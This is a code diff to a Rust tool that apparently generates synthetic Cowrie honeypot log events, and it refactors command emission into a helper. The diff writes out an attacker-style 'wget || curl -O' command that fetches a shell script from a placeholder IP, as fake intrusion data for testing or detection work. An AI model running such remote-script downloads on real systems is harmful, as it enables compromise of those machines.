@@ -173,6 +173,15 @@ impl Gen {
         Ok(())
     }
 
+    fn command(&mut self, out: &mut dyn Write, c: &str, base: &Value, compact: bool) -> io::Result<()> {
+        self.emit(
+            out,
+            json!({"eventid": "cowrie.command.input", "input": c, "message": format!("CMD: {c}")}),
+            base,
+            compact,
+        )
+    }
+
     fn session(&mut self, out: &mut dyn Write) -> io::Result<()> {
         if let Some(r) = &self.rhythm {
             let at = r.at(self.n as f64 / self.limit as f64);
@@ -257,12 +266,7 @@ impl Gen {
                 } else {
                     self.pick(COMMANDS).to_string()
                 };
-                self.emit(
-                    out,
-                    json!({"eventid": "cowrie.command.input", "input": c, "message": format!("CMD: {c}")}),
-                    &base,
-                    compact,
-                )?;
+                self.command(out, &c, &base, compact)?;
                 if self.rng.random_ratio(1, 10) {
                     self.emit(out, json!({"eventid": "cowrie.command.failed", "input": c, "message": format!("Command not found: {c}")}), &base, compact)?;
                 }
@@ -283,13 +287,7 @@ impl Gen {
                 // downloads in one session.
                 let url =
                     format!("http://203.0.113.{}/t{}.sh", self.rng.random_range(1..40), self.rng.random_range(1..5));
-                let c = format!("wget {url} || curl -O {url}");
-                self.emit(
-                    out,
-                    json!({"eventid": "cowrie.command.input", "input": c, "message": format!("CMD: {c}")}),
-                    &base,
-                    compact,
-                )?;
+                self.command(out, &format!("wget {url} || curl -O {url}"), &base, compact)?;
                 for _ in 0..2 {
                     self.emit(out, json!({"eventid": "cowrie.session.file_download.failed", "url": url,
                         "error": "Connection refused", "message": format!("Attempt to download file(s) from URL ({url}) failed")}), &base, compact)?;
